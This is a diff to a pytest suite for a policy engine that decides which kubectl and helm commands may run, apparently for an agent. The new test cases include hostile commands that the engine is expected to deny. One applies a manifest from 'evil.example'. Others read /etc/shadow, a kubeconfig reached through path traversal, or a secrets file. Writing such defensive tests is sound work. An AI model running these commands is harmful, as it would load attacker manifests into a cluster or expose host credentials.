@@ -251,16 +251,44 @@ def test_escapes_denied_unless_named(command: str) -> None:
     [
         ("kubectl exec", "kubectl exec pod -- ls"),
         ("kubectl apply -k", "kubectl apply -k dir"),
-        ("kubectl apply -f", "kubectl apply -f -"),
+        ("kubectl apply -f -", "kubectl apply -f -"),
         ("kubectl get --raw", "kubectl get --raw /healthz"),
         ("kubectl port-forward", "kubectl port-forward pod/x 8080"),
         ("kubectl create token", "kubectl create token reader"),
-        ("kubectl create secret --from-file", "kubectl create secret generic x --from-file=/srv/tls.crt"),
+        (
+            "kubectl create secret --from-file=/srv/tls.crt",
+            "kubectl create secret generic x --from-file=/srv/tls.crt",
+        ),
     ],
 )
 def test_escapes_allowed_when_named(rule: str, command: str) -> None:
     """An allowed pattern that names the escape lets it through."""
     assert decide(command, ctx("c", security={"allowed_commands": [rule]})).allowed
+
+
+@pytest.mark.parametrize(
+    ("rule", "command"),
+    [
+        ("kubectl apply -f", "kubectl apply -f -"),
+        ("kubectl apply -f", "kubectl apply -f https://evil.example/x.yaml"),
+        ("kubectl apply -f", "kubectl apply -f /etc/aofd/secrets.yaml"),
+        ("kubectl create configmap --from-file", "kubectl create configmap x --from-file=/etc/shadow"),
+        (
+            "kubectl create configmap --from-file",
+            "kubectl create configmap x --from-file=k=../../root/.kube/config",
+        ),
+        ("kubectl get -o", "kubectl get pods -o jsonpath-file=/etc/shadow"),
+        (
+            "kubectl create secret --from-file=/srv/tls.crt",
+            "kubectl create secret generic x --from-file=/etc/shadow",
+        ),
+    ],
+)
+def test_a_flag_alone_does_not_unlock_its_dangerous_values(rule: str, command: str) -> None:
+    """Reading stdin, a URL or a host file is allowed only by a rule that gives that very value."""
+    verdict = decide(command, ctx("c", security={"allowed_commands": [rule]}))
+    assert not verdict.allowed
+    assert (verdict.rule or "").startswith(("escape:", "allowed_commands"))
 
 
 def test_example2_same_agent_different_approval_rules() -> None:
@@ -366,7 +394,8 @@ def test_context_namespace_injected_when_absent() -> None:
     assert decide("kubectl get pods", pol).exec_argv == ("kubectl", "--namespace", "payments", "get", "pods")
     assert decide("kubectl -n x get pods", pol).exec_argv == ("kubectl", "-n", "x", "get", "pods")
     assert decide("kubectl get pods -A", pol).exec_argv == ("kubectl", "get", "pods", "-A")
-    assert decide("kubectl get pods", OPEN).exec_argv == ("kubectl", "get", "pods")
+    # Without a Context namespace the checked one (`default`) runs, not the kubeconfig's.
+    assert decide("kubectl get pods", OPEN).exec_argv == ("kubectl", "--namespace", "default", "get", "pods")
 
 
 def test_render_argv_escapes_non_ascii() -> None:
@@ -416,7 +445,6 @@ def test_allowed_namespaces_enforced_without_a_context_namespace() -> None:
     assert verdict.exec_argv == ("kubectl", "--namespace", "default", "get", "secrets")
     assert decide("kubectl -n team-a get pods", pol).exec_argv == ("kubectl", "-n", "team-a", "get", "pods")
     assert not decide("kubectl get secrets --all_namespaces", pol).allowed
-    assert decide("kubectl get pods", OPEN).exec_argv == ("kubectl", "get", "pods")
 
 
 def test_tools_without_a_semantic_policy_run_only_when_allowed_by_name() -> None:
@@ -454,9 +482,13 @@ def test_helm_host_file_reads_are_escapes(command: str, rule: str) -> None:
     verdict = decide(command, OPEN)
     assert (False, rule) == (verdict.allowed, verdict.rule)
     assert decide("helm upgrade web chart -f values.yaml --set-file cert=certs/tls.pem", OPEN).allowed
-    flag = rule.removeprefix("escape:").split("=", 1)[0]
+    flag, _, about_value = rule.removeprefix("escape:").partition("=")
     verb = command.split()[1]
-    assert decide(command, ctx("c", security={"allowed_commands": [f"helm {verb} {flag}"]})).allowed
+    bare = decide(command, ctx("c", security={"allowed_commands": [f"helm {verb} {flag}"]}))
+    assert bare.allowed is not bool(about_value)  # a file or URL escape needs the value in the rule
+    value = next(v for n, v in policy.parse_command(policy.tokenize(command)).flags if n == flag)
+    exact = f"helm {verb} {flag}={value}" if about_value else f"helm {verb} {flag}"
+    assert decide(command, ctx("c", security={"allowed_commands": [exact]})).allowed
 
 
 def test_context_env_may_not_override_or_inject() -> None:
